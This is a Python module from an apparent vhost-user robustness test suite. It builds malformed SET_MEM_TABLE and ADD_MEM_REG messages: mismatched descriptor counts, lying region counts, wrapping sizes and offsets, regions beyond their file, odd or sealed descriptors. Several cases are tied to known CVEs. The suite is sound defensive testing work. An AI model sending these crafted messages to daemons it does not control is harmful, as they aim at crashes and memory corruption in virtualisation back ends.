"""Attacks by what is shared: regions that overlap, wrap, lie beyond their file, are no memory, or go away.

Where the document leaves a case open, a back end may refuse it or take it, as long as nothing breaks. To say yes
to memory that is not there is a lie that the guest will pay for, so that is not lawful.
"""

from __future__ import annotations

import fcntl
import os
import struct
from collections.abc import Callable, Sequence
from functools import partial

from vhost_user.attack.attacker import ODD_FDS, Attacker
from vhost_user.attack.canary import GUEST, MARGIN, WINDOW, Canary
from vhost_user.attack.theme import Outcome, Theme
from vhost_user.message import FrontendRequest, MemoryRegion, ProtocolFeature
from vhost_user.units import KIB

F = FrontendRequest
SLOTS = ProtocolFeature.CONFIGURE_MEM_SLOTS
memory = Theme("memory")

_GAP = "left open by vhost-user"
_U64 = 2**64


def encode_table(regions: Sequence[MemoryRegion], count: int | None = None) -> bytes:
    """A table as bytes, with a count that may be a lie, and as many regions as there are."""
    head = struct.pack("=I4x", len(regions) if count is None else count)
    return head + b"".join(region.encode() for region in regions)


def set_table(
    attacker: Attacker, regions: Sequence[MemoryRegion], fds: Sequence[int], count: int | None = None
) -> Outcome:
    """Negotiate, and send a table of these regions; what the daemon makes of it."""
    return attacker.negotiate().provoke(F.SET_MEM_TABLE, encode_table(regions, count), fds)


def neighbours(attacker: Attacker, number: int) -> list[Canary]:
    """Canaries that lie one behind the other, with gaps."""
    return [attacker.canary(GUEST + 2 * WINDOW * at, window=4 * KIB) for at in range(number)]


# Counts.


@memory.attack("fewer-fds", "CVE-2019-14818")
def fewer_fds(attacker: Attacker) -> Outcome:
    """A table of two regions with one descriptor."""
    one, two = neighbours(attacker, 2)
    return set_table(attacker, [one.region(), two.region()], [one.fd])


@memory.attack("more-fds", "CVE-2022-0669", lawful="what is there is complete; the surplus has to be closed")
def more_fds(attacker: Attacker) -> Outcome:
    """A table of one region with eight descriptors."""
    canary = attacker.canary()
    return set_table(attacker, [canary.region()], [canary.fd] * 8)


@memory.attack("no-fds", "vhost-user: memory table")
def no_fds(attacker: Attacker) -> Outcome:
    """A table of one region without a descriptor."""
    return set_table(attacker, [attacker.canary().region()], [])


@memory.attack("nine-regions", "vhost-user: memory table")
def nine_regions(attacker: Attacker) -> Outcome:
    """A table of nine regions, with eight descriptors, which is as many as a message carries."""
    nine = neighbours(attacker, 9)
    return set_table(attacker, [canary.region() for canary in nine], [canary.fd for canary in nine][:8])


@memory.attack(
    "nine-regions-nine-fds", "vhost-user: memory table", lawful="the document has room for eight, and no rule for nine"
)
def nine_regions_nine_fds(attacker: Attacker) -> Outcome:
    """A table of nine regions, with nine descriptors."""
    nine = neighbours(attacker, 9)
    return set_table(attacker, [canary.region() for canary in nine], [canary.fd for canary in nine])


@memory.attack("count-lies", "CVE-2020-10722 class")
def count_lies(attacker: Attacker) -> Outcome:
    """A table that has one region and counts four."""
    canary = attacker.canary()
    return set_table(attacker, [canary.region()], [canary.fd] * 4, count=4)


@memory.attack("count-max", "CVE-2020-10722 class")
def count_max(attacker: Attacker) -> Outcome:
    """A table that has one region and counts 2**32 - 1."""
    canary = attacker.canary()
    return set_table(attacker, [canary.region()], [canary.fd], count=0xFFFFFFFF)


@memory.attack("empty-table", "vhost-user: memory table", lawful="a table without regions is a table")
def empty_table(attacker: Attacker) -> Outcome:
    """A table without regions, with a descriptor."""
    return set_table(attacker, [], [attacker.canary().fd])


# One region that can't be.

Change = Callable[[Canary], MemoryRegion]

_IMPOSSIBLE: tuple[tuple[str, str, str, Change, str], ...] = (
    ("size-zero", _GAP, "A region of no bytes.", lambda canary: canary.region(size=0), ""),
    ("size-max", _GAP, "A region of 2**64 - 1 bytes.", lambda canary: canary.region(size=_U64 - 1), ""),
    ("size-2-to-63", _GAP, "A region of 2**63 bytes.", lambda canary: canary.region(size=1 << 63), ""),
    ("guest-wrap", _GAP, "Guest addresses that wrap.", lambda canary: canary.region(guest=_U64 - 4096), ""),
    ("user-wrap", _GAP, "User addresses that wrap.", lambda canary: canary.region(user=_U64 - 4096), ""),
    (
        "offset-wrap",
        "CVE-2020-10722",
        "An offset that wraps with the size.",
        lambda canary: canary.region(offset=_U64 - 4096),
        "",
    ),
    (
        "offset-wrap-to-little",
        "CVE-2020-10722",
        "Offset and size whose sum is one page.",
        lambda canary: canary.region(size=_U64 - 64 * KIB, offset=64 * KIB + 4096),
        "",
    ),
    ("offset-max", _GAP, "An offset of 2**64 - 1.", lambda canary: canary.region(offset=_U64 - 1), ""),
    (
        "offset-beyond",
        _GAP,
        "An offset beyond the file's end.",
        lambda canary: canary.region(offset=canary.size + MARGIN),
        "",
    ),
    (
        "size-beyond",
        _GAP,
        "A region that ends beyond its file.",
        lambda canary: canary.region(size=canary.size * 2),
        "",
    ),
    (
        "offset-unaligned",
        _GAP,
        "An offset that is no multiple of a page.",
        lambda canary: canary.region(offset=MARGIN + 1, size=4096),
        "the page around it can be mapped",
    ),
    (
        "size-unaligned",
        _GAP,
        "A region of 4097 bytes.",
        lambda canary: canary.region(size=4097),
        "the kernel maps the rest of a page along",
    ),
)


def _set_one(change: Change, attacker: Attacker) -> Outcome:
    canary = attacker.canary()
    return set_table(attacker, [change(canary)], [canary.fd])


def _add_one(change: Change, attacker: Attacker) -> Outcome:
    canary = attacker.canary()
    line = attacker.negotiate()
    return line.provoke(F.ADD_MEM_REG, bytes(8) + change(canary).encode(), [canary.fd])


for _name, _source, _says, _change, _lawful in _IMPOSSIBLE:
    memory.add(f"table.{_name}", _source, _says, partial(_set_one, _change), lawful=_lawful)
    memory.add(f"add.{_name}", _source, _says, partial(_add_one, _change), needs=SLOTS, lawful=_lawful)


# Regions of something else than memory.


def _of_kind(kind: str, attacker: Attacker) -> Outcome:
    return set_table(attacker, [attacker.canary().region(size=4096, offset=0)], [attacker.odd_fd(kind)])


for _kind in ODD_FDS:
    _mappable = {"file": "a file can be mapped", "zero": "the device can be mapped"}
    memory.add(
        f"fd.{_kind}",
        "SPDK#2852",
        f"A region whose descriptor is of this kind: {_kind}.",
        partial(_of_kind, _kind),
        lawful=_mappable.get(_kind, ""),
    )


@memory.attack("fd.read-only", "SPDK#2852")
def fd_read_only(attacker: Attacker) -> Outcome:
    """A region whose file can't be written."""
    canary = attacker.canary()
    fd = os.open(f"/proc/self/fd/{canary.fd}", os.O_RDONLY | os.O_CLOEXEC)
    try:
        return set_table(attacker, [canary.region()], [fd])
    finally:
        os.close(fd)


@memory.attack("fd.write-sealed", "SPDK#2852")
def fd_write_sealed(attacker: Attacker) -> Outcome:
    """A region of a memfd that is sealed against writing."""
    canary = attacker.canary()
    fcntl.fcntl(canary.fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE)
    return set_table(attacker, [canary.region()], [canary.fd])
